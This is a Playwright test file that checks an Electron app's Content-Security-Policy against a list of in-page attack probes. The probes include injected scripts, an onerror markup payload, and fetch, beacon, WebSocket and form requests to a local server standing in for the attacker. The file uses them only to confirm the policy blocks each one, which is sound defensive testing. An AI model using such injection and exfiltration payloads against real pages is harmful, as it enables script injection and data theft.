import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect } from '@playwright/test';
import { launchApp, type App } from '../support/app/launch-app.ts';
import { test } from '../support/app/test.ts';

// Item 7 of Electron's security checklist: the Content-Security-Policy, attacked.
let app: App;
let server: Server;
let outside: string;
const requests: string[] = [];

test.beforeAll(async () => {
  server = createServer((request, response) => {
    requests.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*');
    response.end('outside');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  outside = `127.0.0.1:${String((server.address() as AddressInfo).port)}`;
  app = await launchApp();
});

test.afterAll(async () => {
  await app.kill();
  server.closeAllConnections();
  server.close();
});

/** A thing that a script of somebody else would try in the page; `OUTSIDE` stands for the attacker's server. */
type Probe = {
  readonly what: string;
  readonly code: string;
  /** The directive that forbids it, or the error by which it fails where the browser names one of several directives. */
  readonly stops: { readonly directive: string } | { readonly error: string };
};

const element = (tag: string, set: string): string =>
  `const made = document.createElement('${tag}'); ${set}; document.body.append(made);`;

const probes: readonly Probe[] = [
  { what: 'eval', stops: { error: 'EvalError' }, code: `eval('1 + 1')` },
  { what: 'a function of text', stops: { error: 'EvalError' }, code: `new Function('return 1')()` },
  { what: 'a timer of text', stops: { error: 'TypeError' }, code: `setTimeout('window.hacked = 1')` },
  {
    what: 'a script of text',
    stops: { error: 'TypeError' },
    code: element('script', `made.textContent = 'window.hacked = 1'`),
  },
  {
    what: 'markup of text',
    stops: { error: 'TypeError' },
    code: `document.createElement('div').innerHTML = '<img src=x onerror="window.hacked = 1">'`,
  },
  {
    what: 'an attribute that is a script',
    stops: { error: 'TypeError' },
    code: element('a', `made.setAttribute('onclick', 'window.hacked = 1'); made.click()`),
  },
  {
    what: 'a script from elsewhere',
    stops: { error: 'TypeError' },
    code: element('script', `made.src = 'http://OUTSIDE/script.js'`),
  },
  {
    what: 'a policy of its own',
    stops: { directive: 'trusted-types' },
    code: `trustedTypes.createPolicy('mine', { createHTML: (text) => text })`,
  },
  {
    what: 'a request',
    stops: { directive: 'connect-src' },
    code: `fetch('http://OUTSIDE/fetch').catch(() => 0)`,
  },
  {
    what: 'an XMLHttpRequest',
    stops: { directive: 'connect-src' },
    code: `const asked = new XMLHttpRequest(); asked.open('GET', 'http://OUTSIDE/xhr'); asked.send()`,
  },
  {
    what: 'a beacon',
    stops: { directive: 'connect-src' },
    code: `navigator.sendBeacon('http://OUTSIDE/beacon', 'x')`,
  },
  { what: 'a WebSocket', stops: { directive: 'connect-src' }, code: `new WebSocket('ws://OUTSIDE/socket')` },
  {
    what: 'an event stream',
    stops: { directive: 'connect-src' },
    code: `new EventSource('http://OUTSIDE/stream')`,
  },
  {
    what: 'its own files',
    stops: { directive: 'connect-src' },
    code: `fetch('app://bundle/index.html').catch(() => 0)`,
  },
  {
    what: 'an image from elsewhere',
    stops: { directive: 'img-src' },
    code: element('img', `made.src = 'http://OUTSIDE/image.png'`),
  },
  {
    what: 'a video from elsewhere',
    stops: { directive: 'media-src' },
    code: element('video', `made.src = 'http://OUTSIDE/video.mp4'`),
  },
  {
    what: 'a style sheet from elsewhere',
    stops: { directive: 'style-src-elem' },
    code: `const made = document.createElement('link'); made.rel = 'stylesheet'; made.href = 'http://OUTSIDE/a.css'; document.head.append(made);`,
  },
  {
    what: 'a style without the nonce',
    stops: { directive: 'style-src-elem' },
    code: element('style', `made.textContent = 'body { color: red }'`),
  },
  {
    what: 'a font from elsewhere',
    stops: { directive: 'font-src' },
    code: `new FontFace('outside', 'url(http://OUTSIDE/font.woff2)').load().catch(() => 0)`,
  },
  {
    what: 'a frame',
    stops: { directive: 'frame-src' },
    code: element('iframe', `made.src = 'http://OUTSIDE/frame.html'`),
  },
  {
    what: 'an object',
    stops: { error: 'TypeError' },
    code: element('object', `made.data = 'http://OUTSIDE/object.svg'`),
  },
  {
    what: 'a form',
    stops: { directive: 'form-action' },
    code: element('form', `made.action = 'http://OUTSIDE/form'`) + ' made.submit()',
  },
  {
    what: 'another base of its addresses',
    stops: { directive: 'base-uri' },
    code: `const made = document.createElement('base'); made.href = 'http://OUTSIDE/'; document.head.append(made);`,
  },
];

/** What became of a probe: the directives that the browser named, what was thrown, and whether it ran. */
type Outcome = { readonly violations: string[]; readonly error: string | undefined; readonly ran: boolean };

/** Runs a probe in a task of the page's own, outside of the test's reach, and waits until the browser has told. */
async function attack({ code }: Probe): Promise<Outcome> {
  await app.page.evaluate(() => {
    const told: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      told.push(effectiveDirective);
    });
    Object.assign(window, { told, ran: undefined });
  });
  const inPage = code.replaceAll('OUTSIDE', outside);
  return app.page.evaluate<Outcome>(`new Promise((resolve) => setTimeout(async () => {
    let error;
    try { ${inPage} } catch (thrown) { error = thrown.name; }
    const told = window.told;
    const task = () => new Promise((done) => setTimeout(done, 20));
    const deadline = performance.now() + 2000;
    while (told.length === 0 && error === undefined && performance.now() < deadline) await task();
    for (let more = 0; more < 5; more += 1) await task();
    resolve({ violations: told, error, ran: window.hacked !== undefined });
  }))`);
}

for (const probe of probes) {
  test(`item 7: the page refuses ${probe.what}`, async () => {
    const { violations, error, ran } = await attack(probe);
    if ('directive' in probe.stops) expect(violations).toEqual([probe.stops.directive]);
    else {
      expect(error).toBe(probe.stops.error);
      expect(violations).toHaveLength(1);
    }
    expect(ran).toBe(false);
    expect(app.page.url()).toBe('app://bundle/index.html');
    expect(requests).toEqual([]);
  });
}

test('item 7: the page still works after all of it, and nothing was asked of the attacker', async () => {
  const text = await app.page.evaluate(() => document.querySelector('#root')?.textContent);
  expect(text).toContain('Explore with sample data');
  expect(await app.api.app.state()).toMatchObject({ ok: true });
  expect(requests).toEqual([]);
});
